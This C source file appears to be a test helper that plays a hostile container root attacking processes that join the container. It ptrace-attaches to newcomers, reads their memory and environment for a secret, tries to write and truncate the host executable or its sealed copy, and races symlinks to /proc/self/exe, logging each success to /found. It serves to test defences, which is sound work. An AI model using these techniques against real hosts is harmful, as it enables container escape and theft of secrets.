/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Root of a machine that wants the executable of who joins it: watches for processes, opens what it
 * can of them, stops them and reads their memory, and swaps a program for a link to
 * /proc/self/exe all the time.
 *
 *	attack-join DEVICE INODE SECRET		of the executable on the host; in the caller's
 *environment
 *
 * Appends to /found: a line for each success and, once each, for what proves that it was close.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned long long device, inode;
static const char *secret;

static void found(const char *what)
{
	int fd = open("/found", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);

	dprintf(fd, "%s\n", what);
	close(fd);
}

static void found_once(const char *what)
{
	static const char *before[16];

	for (int i = 0; i < 16; i++) {
		if (before[i] == what)
			return;
		if (!before[i]) {
			before[i] = what;
			break;
		}
	}
	found(what);
}

static void look_at_executable(int pid)
{
	char path[64];
	struct stat status;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &status) < 0)
		return;
	if (status.st_dev == device && status.st_ino == inode)
		found_once("host executable");
	if (status.st_dev == device && status.st_ino == inode && access(path, W_OK) == 0)
		found_once("executable opened for writing");
	if (fcntl(fd, F_GET_SEALS) & F_SEAL_WRITE && fcntl(fd, F_GET_SEALS) > 1) {
		found_once("copy");
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if (open(path, O_RDWR) >= 0 && write(open(path, O_RDWR), "x", 1) == 1)
			found("copy written");
		if (ftruncate(open(path, O_RDWR), 0) == 0)
			found("copy cut");
	}
	close(fd);
}

static void look_at_environment(int pid)
{
	static char text[1 << 20];
	char path[64];
	ssize_t length;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	length = fd < 0 ? -1 : read(fd, text, sizeof(text));
	if (length > 0 && memmem(text, (size_t)length, secret, strlen(secret)))
		found_once("environment of the caller");
	close(fd);
}

static void look_at_memory(int pid)
{
	char path[64], line[256];
	FILE *maps;
	int fd;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	look_at_executable(pid);
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	while (maps && fgets(line, sizeof(line), maps)) {
		unsigned long from, to;
		static char text[1 << 22];
		ssize_t length;

		if (sscanf(line, "%lx-%lx rw", &from, &to) != 2 || to - from > sizeof(text))
			continue;
		length = pread(fd, text, to - from, (off_t)from);
		if (length > 0)
			found_once("memory");
		if (length > 0 && memmem(text, (size_t)length, secret, strlen(secret)))
			found_once("memory of the caller");
	}
	if (maps)
		fclose(maps);
	close(fd);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* The secret is among our own words. */
static bool is_one_of_us(int pid)
{
	struct stat its, ours;
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return stat(path, &its) == 0 && stat("/proc/self/exe", &ours) == 0 &&
	       its.st_dev == ours.st_dev && its.st_ino == ours.st_ino;
}

static void watch(void (*look)(int), int own)
{
	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;

		while ((entry = readdir(processes))) {
			int pid = atoi(entry->d_name);

			if (pid > own && !is_one_of_us(pid))
				look(pid);
		}
		closedir(processes);
	}
}

static void swap(void)
{
	for (;;) {
		unlink("/next");
		if (link("/payload", "/next") < 0 || rename("/next", "/swapped") < 0)
			found("cannot swap");
		usleep(50);
		if (symlink("/proc/self/exe", "/next") < 0 || rename("/next", "/swapped") < 0)
			found("cannot swap");
		usleep(50);
	}
}

int main(int count, char **words)
{
	if (count < 4)
		return 2;
	device = strtoull(words[1], NULL, 10);
	inode = strtoull(words[2], NULL, 10);
	secret = words[3];
	if (fork() == 0)
		swap();
	if (fork() == 0)
		watch(look_at_memory, getpid());
	if (fork() == 0)
		watch(look_at_environment, getpid());
	found("ready");
	for (;;) {
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		watch(look_at_executable, getpid() + 3);
	}
}
